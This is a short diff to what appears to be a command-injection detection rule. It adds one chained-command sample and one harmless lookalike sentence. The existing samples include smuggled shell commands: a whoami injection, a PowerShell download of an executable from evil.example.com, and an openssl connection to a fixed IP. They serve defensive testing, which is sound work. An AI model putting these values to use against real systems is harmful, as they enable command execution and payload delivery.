@@ -33,6 +33,7 @@ export const chainedCommand: ValueRule = {
     "x') ; whoami ; (",
     'x & powershell iwr http://evil.example.com/a -OutFile a.exe',
     '; openssl s_client -connect 192.0.2.9:443',
+    '; grep one two three four five six seven eight > /tmp/x',
   ],
   lookalikes: [
     'salt & pepper; find more in our shop',
@@ -51,6 +52,7 @@ export const chainedCommand: ValueRule = {
     '<p>one & more</p>',
     'dig it; the +short list | getent hosts no party',
     'first; . then second',
+    'In the menu; where the headings are missing from a page, press F9.',
     'tsc && npm run bundle',
     '$sum = 5 + 6; echo $sum;',
     'cmd & powershell tips for beginners',
